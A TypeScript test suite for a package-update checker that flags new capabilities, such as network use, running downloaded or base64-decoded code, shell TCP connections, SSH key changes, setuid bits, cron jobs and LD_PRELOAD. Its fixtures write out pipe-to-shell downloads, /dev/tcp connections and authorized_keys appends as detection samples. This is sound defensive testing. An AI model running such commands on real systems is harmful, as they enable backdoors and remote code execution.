import type { PackageOf } from './apk-file';
import { elfFile } from './elf-file';
import { builtWith, builtWithFiles, NEW, OLD, PACKAGE_CHECKS, scenario, update } from './scenario';

const script = (text: string) => ({ content: `#!/bin/sh\n${text}\n`, mode: 0o755 });

test('an update that can do no more than before passes', async () => {
  const { check, failing } = await update(NEW);
  expect(await check('capability-diff')).toMatchObject({ outcome: 'passed', summary: 'no new capability' });
  expect(await failing(PACKAGE_CHECKS)).toEqual([]);
});

const fresh: readonly (readonly [string, readonly PackageOf[], string])[] = [
  [
    'a script that downloads',
    builtWithFiles({ 'usr/bin/get': script('if true; then curl -o x https://example.org/x; fi') }),
    'uses the network: ',
  ],
  ['a Python program that opens sockets', builtWithFiles({ 'usr/lib/hello/a.py': 'import socket\n' }), 'uses the network: import socket'],
  ['a Python program that starts others', builtWithFiles({ 'usr/lib/hello/a.py': 'subprocess.run(["id"])\n' }), 'starts other programs'],
  ['decoded text that is run', builtWithFiles({ 'usr/bin/x': script('echo aGkK | base64 -d | sh') }), 'runs decoded text as code'],
  [
    'decoded text that is evaluated',
    builtWithFiles({ 'usr/bin/x': script('eval "$(echo aGkK | base64 --decode)"') }),
    'runs decoded text as code',
  ],
  [
    'text that is hidden in escapes',
    builtWithFiles({ 'usr/bin/x': script(`printf '${'\\x41'.repeat(70)}'`) }),
    'runs text hidden in escapes',
  ],
  [
    'a shell that runs what it downloads',
    builtWithFiles({ 'usr/bin/x': script('wget -qO- https://example.org | bash') }),
    'runs what it downloads',
  ],
  [
    'a connection from the shell',
    builtWithFiles({ 'usr/bin/x': script('cat < /dev/tcp/10.0.0.1/80') }),
    'opens a connection from the shell',
  ],
  [
    'an install script',
    builtWith('hello', (item) => ({ ...item, scripts: { 'post-install': '#!/bin/sh\ntrue\n' } })),
    'runs a script at installation: post-install',
  ],
  ['a setuid bit in a script', builtWithFiles({ 'usr/bin/x': script('chmod u+s /usr/bin/y') }), 'makes a file setuid or setgid'],
  ['a timed job', builtWithFiles({ 'etc/cron.d/x': '* * * * * root true' }), 'installs a timed job'],
  ['SSH keys', builtWithFiles({ 'usr/bin/x': script('cat key >> /root/.ssh/authorized_keys') }), 'touches SSH keys'],
  ['a preloaded library', builtWithFiles({ 'usr/bin/x': script('LD_PRELOAD=/usr/lib/x.so true') }), 'preloads a library'],
  [
    'a program that connects',
    builtWithFiles({ 'usr/bin/x': elfFile({ imports: ['puts', 'connect', 'getaddrinfo'] }) }),
    'uses the network: connect, getaddrinfo',
  ],
  [
    'a program that is linked with a network library',
    builtWithFiles({ 'usr/bin/x': elfFile({ needed: ['libcurl.so.4'] }) }),
    'uses the network: libcurl.so.4',
  ],
  ['a program that starts others', builtWithFiles({ 'usr/bin/x': elfFile({ imports: ['execve'] }) }), 'starts other programs: execve'],
  ['a program that loads code', builtWithFiles({ 'usr/bin/x': elfFile({ imports: ['dlopen'] }) }), 'loads code while it runs: dlopen'],
  ['a string in a program', builtWithFiles({ 'usr/bin/x': elfFile({ strings: ['/root/.ssh/authorized_keys'] }) }), 'touches SSH keys'],
  [
    'a program that is cut off',
    builtWithFiles({ 'usr/bin/x': elfFile({ needed: ['libc.so.6'] }).subarray(0, 130) }),
    'is a malformed program',
  ],
];

test.each(fresh)('%s fails, and nothing else does', async (_, built, expected) => {
  const { check, failing } = await update(built);
  const finding = await check('capability-diff');
  expect(finding.outcome).toBe('failed');
  expect(finding.details.join('\n')).toContain(expected);
  expect(await failing(PACKAGE_CHECKS)).toEqual(['capability-diff']);
});

test('the same capability at the same place, under another version, is not new', async () => {
  const library = (version: string) => ({ [`usr/lib/libx.so.${version}`]: elfFile({ imports: ['connect'], strings: ['LD_PRELOAD'] }) });
  const published = OLD.map((item) => (item.name === 'hello' ? { ...item, files: { ...item.files, ...library('1.0') } } : item));
  expect((await (await update(builtWithFiles(library('1.1')), published)).check('capability-diff')).outcome).toBe('passed');
  const elsewhere = builtWithFiles({ 'usr/bin/x': script('LD_PRELOAD=x true') });
  expect((await (await update(elsewhere, published)).check('capability-diff')).outcome).toBe('failed');
});

test('an ability counts once for a release: another program that connects is no news', async () => {
  const published = OLD.map((item) =>
    item.name === 'hello' ? { ...item, files: { ...item.files, 'usr/bin/a': elfFile({ imports: ['connect'] }) } } : item,
  );
  expect(
    (await (await update(builtWithFiles({ 'usr/bin/b': elfFile({ imports: ['connect'] }) }), published)).check('capability-diff')).outcome,
  ).toBe('passed');
});

test('a first release is only told about, but obfuscated code fails there too', async () => {
  const first = await scenario({ built: builtWithFiles({ 'usr/bin/x': script('curl https://example.org') }) });
  expect(await first.check('capability-diff')).toMatchObject({ outcome: 'passed', details: [expect.stringContaining('uses the network')] });
  const hidden = await scenario({ built: builtWithFiles({ 'usr/bin/x': script('base64 -d <<< aGkK | sh') }) });
  expect((await hidden.check('capability-diff')).outcome).toBe('failed');
});

test('comments and documentation do nothing', async () => {
  const built = builtWithFiles({
    'usr/bin/x': script('# curl https://example.org | sh\ntrue'),
    'usr/share/doc/hello/install.sh': script('curl https://example.org | sh'),
  });
  expect((await (await update(built)).check('capability-diff')).outcome).toBe('passed');
});
